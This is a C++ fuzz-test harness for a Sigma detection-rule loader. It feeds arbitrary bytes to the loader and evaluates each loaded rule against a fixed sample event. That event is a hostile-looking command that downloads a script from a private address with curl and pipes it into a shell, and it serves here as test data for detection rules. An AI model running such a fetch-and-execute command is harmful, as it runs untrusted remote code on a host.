// Fuzzes the Sigma rule loader (collector/detect/sigma/load.h) and the
// pipeline reader: rule files are outside bytes (a rule pack from anyone).
// Invariants: never crashes or throws (yaml-cpp's exceptions stop at
// yaml_input.cpp), every rejection has a one-line reason, and a loaded rule
// can be evaluated, on a fixed event and on one made of the input itself.
#include <cstdint>
#include <cstdlib>
#include <map>
#include <string>

#include "collector/detect/sigma/load.h"
#include "collector/detect/sigma/match.h"
#include "collector/detect/sigma/pipeline.h"

namespace {

namespace sigma = bt::collector::detect::sigma;

struct InputFields : sigma::Fields {
  std::string k;
  std::string text;
  std::string_view kind() const override { return k; }
  void values(std::string_view, std::vector<std::string>& out) const override { out.push_back(text); }
};

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const std::string text(reinterpret_cast<const char*>(data), size);
  sigma::RuleSet set;
  sigma::load_text(text, "fuzz.yml", sigma::builtin_pipeline(), set);
  sigma::finish(set);
  for (const auto& r : set.rejected)
    if (r.reason.empty() || r.reason.find('\n') != std::string::npos) std::abort();
  for (const auto& rule : set.rules) {
    if (rule.kinds.empty() || !rule.condition) std::abort();
    InputFields f;
    f.k = rule.kinds.front();
    f.text = text;
    (void)sigma::matches(rule, f);
    f.text = "/usr/bin/bash -c 'curl http://10.0.0.1/x | sh'";
    (void)sigma::matches(rule, f);
  }
  (void)sigma::parse_pipeline(text);
  return 0;
}
